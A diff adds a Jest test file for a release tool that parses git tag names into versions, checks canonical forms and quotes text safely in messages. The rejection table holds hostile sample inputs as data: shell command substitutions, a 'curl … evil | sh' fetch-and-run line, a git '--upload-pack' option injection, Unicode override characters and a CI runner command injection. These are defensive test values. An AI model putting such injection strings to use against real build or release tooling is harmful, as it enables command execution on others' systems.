@@ -1,0 +1,76 @@
+import { expect, test } from '@jest/globals'
+import { quoted } from '../../src/release/quoted.ts'
+import { readTag, tagNameOf } from '../../src/release/tag.ts'
+import { parseVersion } from '../../src/release/version.ts'
+
+test.each([
+  ['3.2.0', '', 'a final version'],
+  ['3.2.0rc1', '', 'a pre-release may be released'],
+  ['3.2', '', 'two numbers are enough'],
+  ['1!2.0', '', 'an epoch is accepted'],
+  ['1.0.post1', '', 'a post-release'],
+  ['v2.2.0', 'v', 'the prefix of the project'],
+  ['rel-1.4', 'rel-', 'a longer prefix'],
+])('%j with prefix %j releases a version: %s', (name, prefix) => {
+  const version = parseVersion(name.slice(prefix.length))
+  expect(readTag(name, prefix)).toEqual({ kind: 'release', tag: { name, version } })
+  expect(version && tagNameOf(version, prefix)).toBe(name)
+})
+
+test.each([
+  ['words', 'simple-tag', ''],
+  ['a branch that ended', '3.1.x', ''],
+  ['work in progress', 'wip-types', ''],
+  ['a mark in the history', 'pre-changelog-rebase', ''],
+  ['the second package of a repository', '5.6.0-Too', ''],
+  ['a slip', 'v.2.3.0', 'v'],
+  ['nothing', '', ''],
+  ['the prefix alone', 'v', 'v'],
+  ['a space, which only the interface of GitHub lets through', '1.2.3 ', ''],
+  ['a line end', '1.2.3\n', ''],
+  ['a shell command', '$(touch /tmp/x)', ''],
+  ['a shell command', '`id`', ''],
+  ['a shell command', 'a;curl$IFS-evil|sh', ''],
+  ['an option of git', '--upload-pack=evil', ''],
+  ['an option, almost a version', '-1.0', ''],
+  ['a ref pushed as a name', 'refs/tags/1.0', ''],
+  ['full-width digits', '１.０', ''],
+  ['a bidirectional override', '1.0.0\u202e', ''],
+  ['a zero-width space', '1.0.0\u200b', ''],
+  ['5,000 characters', '1.'.repeat(2500), ''],
+  ['5,000 digits', '1'.repeat(5000), ''],
+])('no version: %s', (_, name, prefix) => {
+  expect(readTag(name, prefix)).toEqual({ kind: 'not-a-version', name })
+})
+
+test.each([
+  ['v2.2.0', '', '2.2.0', 'the project has no prefix'],
+  ['2.2.0', 'v', 'v2.2.0', 'the project has a prefix'],
+  ['3.0.1-rc1', '', '3.0.1rc1', 'the form of semver'],
+  ['1.2.3-beta1', '', '1.2.3b1', 'the form of semver'],
+  ['01.2.3', '', '1.2.3', 'a leading zero'],
+  ['0.6.0-RC1', '', '0.6.0rc1', 'upper case'],
+  ['1.0-1', '', '1.0.post1', 'a post-release in short'],
+  ['v1.0-rc1', 'v', 'v1.0rc1', 'the prefix stays'],
+])('%j with prefix %j should be %j: %s', (name, prefix, canonical) => {
+  expect(readTag(name, prefix)).toEqual({ kind: 'not-canonical', name, canonical })
+})
+
+test.each([
+  ['1.0+local', 'version-local', 'no index accepts it'],
+  ['3.2.0.dev0', 'version-development', 'a state between releases'],
+  ['3.2.0.dev', 'version-development', 'the spelling does not matter'],
+  ['3.2.0.dev1+g1a2b3c4', 'version-local', 'a version from a build'],
+])('%j is never released, by %s: %s', (name, code) => {
+  expect(readTag(name, '')).toEqual({ kind: 'not-releasable', name, version: parseVersion(name), code })
+})
+
+test.each([
+  ['what can be seen stays', '3.2.0', '"3.2.0"'],
+  ['a bidirectional override is shown', '1.0\u202e', '"1.0\\u{202e}"'],
+  ['a line end does not start a command of the runner', '1.0\n::error::x', '"1.0\\u{a}::error::x"'],
+  ['one character is one code point', '😀', '"\\u{1f600}"'],
+  ['the rest is counted', 'x'.repeat(5000), `"${'x'.repeat(100)}…" (and 4900 characters more)`],
+])('in a message, %s', (_, text, expected) => {
+  expect(quoted(text)).toBe(expected)
+})
